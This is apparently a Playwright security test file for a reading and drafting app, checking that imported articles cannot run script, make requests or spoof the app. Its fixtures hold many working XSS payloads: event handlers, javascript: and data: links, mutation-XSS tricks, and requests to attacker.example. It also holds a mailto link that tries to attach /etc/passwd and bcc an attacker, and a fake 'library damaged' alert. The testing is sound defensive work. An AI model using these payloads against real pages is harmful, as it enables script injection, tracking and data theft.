import { expect, importAndOpen, openArticle, pwned, readerAction, seriousViolations, test, watchForLeaks } from './fixtures.ts';
import { Library } from '../../electron/library/library.ts';
import { insertSavedArticle } from '../../electron/library/saved-articles.ts';

/**
 * An article built to attack the page that shows it. Each payload, if it worked, would either
 * run script (setting `window.pwned`, or opening a dialog) or make a request (to an outside
 * host, or to a path of the app's own server that no page of the app asks for).
 */
const HOSTILE = `<!doctype html>
<html><head>
<title>Harbour council meets in secret</title>
<meta http-equiv="refresh" content="0; url=https://attacker.example/refresh">
<base href="https://attacker.example/base/">
<link rel="stylesheet" href="https://attacker.example/head.css">
<style>@import url("https://attacker.example/import.css"); body { background: url("https://attacker.example/bg.png"); }</style>
<script>window.pwned = 'head script';</script>
</head><body><article>
<h1>Harbour council meets in secret</h1>
<p>The council met behind closed doors on Tuesday to discuss the harbour's future, officials said.</p>
<script>window.pwned = 'body script';</script>
<p><img src="https://attacker.example/pixel.gif" alt="tracking pixel"><img src="/api/evil" alt="own-origin image"><img src="x" onerror="window.pwned = 'onerror'"></p>
<p><img srcset="https://attacker.example/srcset.png 2x" alt="srcset"><picture><source srcset="https://attacker.example/picture.webp"><img alt="picture"></picture></p>
<p><a href="javascript:window.pwned='javascript link'">A javascript: link</a> and <a href="data:text/html,<script>parent.pwned=1</script>">a data: link</a>.</p>
<p onmouseover="window.pwned='handler'" style="background-image: url(https://attacker.example/inline-style.png)">Members voted on the new berths after a long debate about costs.</p>
<svg onload="window.pwned='svg onload'"><script>window.pwned='svg script'</script><image href="https://attacker.example/svg-image.png"/><a href="javascript:window.pwned='svg link'"><text y="20">svg link</text></a><foreignObject><img src="https://attacker.example/foreign.png"></foreignObject></svg>
<math><maction actiontype="statusline" xlink:href="javascript:window.pwned='mathml'">mathml</maction><mtext><img src="https://attacker.example/mathml.png"></mtext></math>
<iframe src="https://attacker.example/frame.html"></iframe><iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>
<object data="https://attacker.example/object.swf"></object><embed src="https://attacker.example/embed.swf">
<form action="https://attacker.example/form"><input type="image" src="https://attacker.example/input.png"><button>Send</button></form>
<video poster="https://attacker.example/poster.png" src="https://attacker.example/video.mp4"></video><audio src="https://attacker.example/audio.mp3" autoplay></audio>
<table background="https://attacker.example/table.png"><tr><td>Berths</td><td>12</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>"></p></noscript>
<!--<img src="--><img src=x onerror="window.pwned='comment'">-->
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="window.pwned='mxss'">
<map name="m"><area href="javascript:window.pwned='area'" target="_top" shape="default"></map><img usemap="#m" alt="map">
<details open ontoggle="window.pwned='ontoggle'"><summary>More</summary>The vote was close.</details>
<p>The harbour master said the berths would be ready by spring.</p>
</article></body></html>`;

test('an article built to attack the reading view runs nothing and makes no request, read or drafted from', async ({ page, app }) => {
  await page.route(
    (url) => url.origin !== app.origin,
    (route) => route.abort(),
  );
  await page.goto(app.url);
  const seen = watchForLeaks(page, app.origin);

  await page.getByTestId('import-input').setInputFiles({ name: 'council.html', mimeType: 'text/html', buffer: Buffer.from(HOSTILE) });
  await page.getByRole('button', { name: 'Close', exact: true }).click();
  await openArticle(page, 'Harbour council meets in secret');
  const body = page.getByTestId('reader-body');
  // The parser-differential payloads near the end may swallow what follows them; the story before them is there.
  await expect(body).toContainText('Members voted on the new berths after a long debate about costs.');

  // Move over, click and focus everything a person could, as they would.
  for (const target of await body.locator('a, p, svg, math, details, img, area').all()) {
    await target.hover({ force: true, timeout: 1000 }).catch(() => undefined);
  }
  for (const link of await body.getByRole('link').all()) await link.click({ timeout: 1000 }).catch(() => undefined);
  await page.waitForTimeout(500);

  expect(await pwned(page)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
  expect(
    await body
      .locator('script, iframe, object, embed, form, base, meta, link, style, svg, math, [onerror], [onload], [onmouseover]')
      .count(),
  ).toBe(0);
  expect(await body.locator('[href^="javascript:" i], [href^="data:" i], [src^="http"], [srcset], [poster], [background]').count()).toBe(0);

  // The editor, given the same article to start a draft from.
  await body.getByText('Members voted on the new berths').selectText();
  await readerAction(page, 'Start a draft');
  await expect(page.getByRole('textbox', { name: 'Headline' })).toBeVisible();
  await page.waitForTimeout(500);
  expect(await pwned(page)).toBeUndefined();

  expect(seen.stray).toEqual([]);
  // Nothing navigated the page away (meta refresh, base, forms, links).
  expect(page.url()).toBe(`${app.origin}/`);
});

const STORY =
  'Ferry crews walk out over pay\n\nThe ferry crews walked out on Monday morning.\n\nThe operator said talks would resume on Thursday.';

for (const theme of ['light', 'sepia', 'dark'] as const) {
  test(`the library, reading and editor views have no serious accessibility findings (${theme} theme)`, async ({ page, app }) => {
    await page.goto(app.url);
    await page.evaluate((value) => document.documentElement.setAttribute('data-theme', value), theme);
    await importAndOpen(page, STORY, 'Ferry crews walk out over pay');
    await page.evaluate((value) => document.documentElement.setAttribute('data-theme', value), theme);
    // A highlight and the panel open, so their colours are checked too.
    await page.getByTestId('reader-body').getByText('The operator said').selectText();
    await page.keyboard.press('h');
    await page.getByRole('button', { name: 'Highlights (1)' }).click();
    expect(await seriousViolations(page)).toEqual([]);

    await page.getByRole('button', { name: 'Highlights', exact: true }).click();
    await expect(page.getByRole('list', { name: 'Highlights' })).toBeVisible();
    expect(await seriousViolations(page)).toEqual([]);

    await page.getByRole('button', { name: 'New draft' }).click();
    await expect(page.getByRole('textbox', { name: 'Headline' })).toBeVisible();
    expect(await seriousViolations(page)).toEqual([]);
  });
}

test('an article stored with the app’s own classes cannot dress up as the app when shown', async ({ page, app }) => {
  // As a library from before classes were limited holds it: straight into the file.
  const library = Library.open(app.libraryPath);
  const stored = insertSavedArticle(library, {
    title: 'Harbour notice',
    html: '<div class="toast recovery-offer" role="alert">Your library is damaged: call 555-0100.</div><p class="app focus-mode missing-image">The harbour reopened at noon.</p>',
    text: 'Your library is damaged: call 555-0100. The harbour reopened at noon.',
    sourceUrl: 'https://harbour.example/notice',
  });
  library.close();
  await page.goto(app.url);
  await openArticle(page, 'Harbour notice');
  const body = page.locator('.reader-body');
  await expect(body).toContainText('The harbour reopened at noon.');
  expect(await body.locator('[class]').evaluateAll((nodes) => nodes.map((node) => node.className))).toEqual(['missing-image']);
  await expect(page.locator('.toast, .recovery-offer')).toHaveCount(0);
  expect(stored).toBeGreaterThan(0);
});

test('the app loads, reads and edits with no Content Security Policy violation, so a real one stands out', async ({ page, app }) => {
  await page.addInitScript(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      (window as unknown as { violations: string[] }).violations.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  await page.goto(app.url);
  await importAndOpen(page, 'Harbour reopens\n\nThe ferry left at noon on Monday, the harbour master said.', 'Harbour reopens');
  await page.getByRole('button', { name: 'New draft' }).click();
  await page.getByLabel('Headline').fill('Council votes');
  await page.getByRole('textbox', { name: 'Article body' }).click();
  await page.keyboard.type('The council voted on Tuesday.');
  await expect(page.getByTestId('save-status')).toHaveText('Saved');
  expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
});

test('a link in an article shows where it goes and asks once per site; a mail link loses its attachment', async ({ page, app }) => {
  const library = Library.open(app.libraryPath);
  insertSavedArticle(library, {
    title: 'Harbour links',
    html:
      '<p>Read <a href="https://harbour.example/timetable">the timetable</a> and <a href="https://harbour.example/fares">the fares</a>, ' +
      'or <a href="mailto:desk@harbour.example?subject=Tip&amp;attach=/etc/passwd&amp;bcc=spy@attacker.example">write to the desk</a>.</p>',
    text: 'Read the timetable and the fares, or write to the desk.',
    sourceUrl: 'https://harbour.example/links',
  });
  library.close();
  await page.addInitScript(() => {
    (window as unknown as { opened: string[] }).opened = [];
    window.open = (url?: string | URL) => {
      (window as unknown as { opened: string[] }).opened.push(String(url));
      return null;
    };
  });
  await page.goto(app.url);
  await openArticle(page, 'Harbour links');
  const opened = () => page.evaluate(() => (window as unknown as { opened: string[] }).opened);

  await page.getByRole('link', { name: 'the timetable' }).click();
  const ask = page.getByRole('dialog', { name: 'Open this link?' });
  await expect(ask).toContainText('https://harbour.example/timetable');
  await ask.getByRole('button', { name: 'Cancel' }).click();
  expect(await opened()).toEqual([]);

  await page.getByRole('link', { name: 'the timetable' }).click();
  await ask.getByRole('button', { name: 'Open link' }).click();
  expect(await opened()).toEqual(['https://harbour.example/timetable']);
  // The same site again: no question.
  await page.getByRole('link', { name: 'the fares' }).click();
  await expect.poll(opened).toEqual(['https://harbour.example/timetable', 'https://harbour.example/fares']);
  await expect(ask).toBeHidden();

  await page.getByRole('link', { name: 'write to the desk' }).click();
  const mail = page.getByRole('dialog', { name: 'Write an e-mail?' });
  await expect(mail).toContainText('mailto:desk@harbour.example?subject=Tip');
  await expect(mail).not.toContainText('attach');
  await mail.getByRole('button', { name: 'Write e-mail' }).click();
  expect((await opened()).at(-1)).toBe('mailto:desk@harbour.example?subject=Tip');
});
